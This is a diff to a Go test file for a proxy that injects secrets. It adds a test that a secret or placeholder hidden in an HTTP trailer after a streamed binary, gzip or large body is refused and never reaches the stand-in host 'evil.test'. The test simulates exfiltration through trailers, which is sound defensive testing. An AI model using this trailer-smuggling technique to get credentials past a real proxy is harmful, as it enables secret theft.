@@ -237,3 +237,61 @@ func TestSecretResponseSplitEverywhere(t *testing.T) {
 		t.Errorf("got %q\nwant %q", got.String(), want)
 	}
 }
+
+// trailerBody is a request body that sets its request's trailer field
+// just before its end, as a client computing a checksum does.
+type trailerBody struct {
+	r     io.Reader
+	req   *http.Request
+	name  string
+	value string
+}
+
+func (b *trailerBody) Read(p []byte) (int, error) {
+	n, err := b.r.Read(p)
+	if err == io.EOF {
+		b.req.Trailer.Set(b.name, b.value)
+	}
+	return n, err
+}
+
+// TestSecretStreamedBodyTrailer: a real value, or a placeholder toward a
+// host it is not bound to, in the trailer after a body the proxy streams
+// (binary, gzip-encoded, or textual and larger than it rewrites whole)
+// is refused; the upstream never receives the trailer.
+func TestSecretStreamedBodyTrailer(t *testing.T) {
+	t.Parallel()
+	f := newSecretFixture(t, nil)
+	var gz bytes.Buffer
+	zw := gzip.NewWriter(&gz)
+	io.WriteString(zw, "compressed")
+	zw.Close()
+	big := strings.Repeat("x", maxSecretBody+10)
+	for _, c := range []struct{ name, ctype, encoding, body, trailer string }{
+		{"binary-value", "application/octet-stream", "", "\x00\x01binary", valKey},
+		{"binary-placeholder", "application/octet-stream", "", "\x00\x01binary", phKey},
+		{"gzip-value", "text/plain", "gzip", gz.String(), valKey},
+		{"big-text-value", "text/plain", "", big, valKey},
+	} {
+		req, _ := http.NewRequest("POST", "https://evil.test/"+c.name, nil)
+		req.Body = io.NopCloser(&trailerBody{r: strings.NewReader(c.body), req: req, name: "X-Sum", value: c.trailer})
+		req.ContentLength = -1
+		req.Trailer = http.Header{"X-Sum": nil}
+		req.Header.Set("Content-Type", c.ctype)
+		if c.encoding != "" {
+			req.Header.Set("Content-Encoding", c.encoding)
+		}
+		resp, err := f.c.Do(req)
+		if err == nil {
+			io.Copy(io.Discard, resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != http.StatusForbidden {
+				t.Errorf("%s: got %d, want 403", c.name, resp.StatusCode)
+			}
+		}
+		if got := f.evil.seen(); strings.Contains(got, valKey) || strings.Contains(got, phKey) {
+			t.Errorf("%s: the upstream received the trailer:\n%.300s", c.name, got)
+		}
+	}
+	noValues(t, f.e)
+}
